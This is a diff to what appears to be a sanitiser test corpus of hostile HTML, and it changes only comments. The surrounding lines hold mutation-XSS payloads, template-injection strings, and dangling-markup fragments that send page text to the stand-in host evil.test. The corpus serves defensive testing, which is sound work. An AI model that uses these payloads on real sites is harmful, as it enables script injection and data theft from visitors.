@@ -58,12 +58,12 @@ const moreHandlers = [
     'onunhandledrejection',
   ],
 ]
-/** Elements that load, run, or use their own parser. */
+/** Elements that load resources, run code, or use their own parser. */
 const hosts = [
   ...['audio', 'video', 'embed', 'object', 'frame', 'frameset', 'applet', 'portal', 'fencedframe', 'source', 'track', 'picture', 'input', 'button', 'keygen'],
   ...['body', 'html', 'bgsound', 'isindex', 'dialog', 'slot', 'x-custom', 'image', 'link', 'meta', 'base', 'plaintext', 'listing', 'noembed', 'noframes'],
 ]
-/** Harmless for one parser but not for the next: trees that change when they are serialised and parsed again. */
+/** Mutation XSS: harmless for one parser, but the tree changes when it is serialized and parsed again. */
 const mutations = [
   '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -116,7 +116,7 @@ const mutations = [
   '<img src=x one<b>rror=alert(1)>',
   `{{constructor.constructor("alert(1)")()}}\${alert(1)}#{alert(1)}<%= alert(1) %>`,
 ]
-/** Nothing runs, and yet the page changes: text is exfiltrated, forms are hijacked, names are clobbered, visitors are redirected. */
+/** No script runs, and yet the page is compromised: text is exfiltrated, forms are hijacked, names are clobbered, visitors are redirected. */
 const dangling = [
   "<img src='//evil.test/?",
   '<a href="//evil.test/?',
@@ -146,7 +146,7 @@ const dangling = [
   '<svg><image href="//evil.test/a" /><feImage href="//evil.test/a" /><use href="//evil.test/a#x" /></svg>',
 ]
 
-/** HTML that tries to run, to load, to post or to cover the page. */
+/** HTML that tries to run scripts, load resources, submit forms or cover the page. */
 export const hostileHtml: string[] = [
   ...wrap('alert(1)'),
   ...handlers.flatMap((name) => [
